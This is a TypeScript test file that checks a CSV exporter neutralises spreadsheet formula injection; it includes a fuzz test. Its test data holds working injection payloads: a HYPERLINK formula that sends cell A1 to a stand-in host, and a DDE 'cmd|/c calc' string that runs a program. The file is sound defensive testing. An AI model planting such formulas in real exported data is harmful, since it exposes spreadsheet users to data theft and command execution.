/** What people take away as a table holds no formula, whoever wrote the words in it. THREATS PA2 */
import { type TestContext, test } from 'node:test'
import fc from 'fast-check'
import { csvLine } from '../../src/cli/csv-lines.ts'
import { readCsv } from '../../src/lib/csv.ts'

/** What a spreadsheet may take for the beginning of a formula. */
const BEGINS_A_FORMULA = /^[=+\-@\t\r]/

test('a cell that begins like a formula is told to be text', (t: TestContext) => {
  const evil = [
    '=HYPERLINK("https://x.test/?"&A1;"ver")',
    '+34 600 000 000',
    '-2+3+cmd|/c calc!A0',
    '@SUM(1+1)*cmd',
    '\t=1+1',
    '\r=1+1',
    '=1+1\r\n"x"',
  ]
  t.assert.deepStrictEqual(
    readCsv(csvLine(evil))[0]?.cells,
    evil.map((cell) => `'${cell}`),
  )
})

test('whatever the cells, there is one row, no formula, and nothing is lost', () => {
  const cell = fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', "'", 'a', 'ñ'),
    maxLength: 12,
  })
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 6 }), (cells) => {
      const rows = readCsv(csvLine(['id', ...cells]))
      const read = rows[0]?.cells.slice(1) ?? []
      // Blanks around a cell without quotes mean nothing to the reader.
      const isSame = read.every((one, at) =>
        [cells[at], `'${cells[at]}`].some((meant) => meant?.trim() === one.trim()),
      )
      return rows.length === 1 && read.length === cells.length && isSame && !read.some(isFormula)
    }),
    { numRuns: Number(process.env['FUZZ_RUNS'] ?? 2_000) },
  )
})

function isFormula(cell: string): boolean {
  return BEGINS_A_FORMULA.test(cell)
}
